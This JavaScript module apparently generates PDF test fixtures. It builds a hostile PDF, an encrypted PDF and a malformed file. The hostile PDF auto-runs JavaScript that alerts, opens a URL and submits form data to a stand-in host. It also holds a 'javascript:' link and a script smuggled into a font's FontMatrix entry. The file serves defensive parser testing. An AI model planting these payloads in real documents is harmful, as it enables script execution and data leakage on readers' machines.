// PDF files written by hand: what no program of good faith would write.

/** Its objects from number 1 on, the first one the catalogue; `more` goes into the trailer. */
function file(objects, more = "") {
  let [text, at] = ["%PDF-1.7\n", []];
  objects.forEach((object, number) => {
    at.push(text.length);
    text += `${number + 1} 0 obj\n${object}\nendobj\n`;
  });
  const table = at.map((where) => `${String(where).padStart(10, "0")} 00000 n \n`).join("");
  const size = objects.length + 1;
  return Buffer.from(`${text}xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R ${more} >>\nstartxref\n${text.length}\n%%EOF\n`, "latin1");
}

const CONTENT = "BT /F1 24 Tf 40 90 Td (Une page ordinaire) Tj ET";
const page = (catalogue, own, ...rest) => [
  `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R ${own} >>`,
  `<< /Length ${CONTENT.length} >>\nstream\n${CONTENT}\nendstream`,
  "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ...rest,
];

/** Runs when it is opened, when its page is, and goes elsewhere wherever it is touched; one font of it is a script. */
export const hostile = () => file(page(
  "/OpenAction << /S /JavaScript /JS (app.alert('pris'); app.launchURL('https://ailleurs.example/'); this.submitForm('https://ailleurs.example/')) >>",
  "/AA << /O << /S /URI /URI (https://ailleurs.example/) >> >> /Annots [6 0 R]",
  "<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>",
).map((object) => object.replace("/BaseFont /Helvetica", "/BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); alert\\('pris')]")));

export const locked = () => file(
  [...page("", ""), `<< /Filter /Standard /V 1 /R 2 /P -4 /O <${"a1".repeat(32)}> /U <${"b2".repeat(32)}> >>`],
  `/Encrypt 6 0 R /ID [<${"0".repeat(32)}> <${"0".repeat(32)}>]`,
);

export const broken = () => Buffer.from("%PDF-1.7\nrien de ce qui suit n'est un PDF\n");
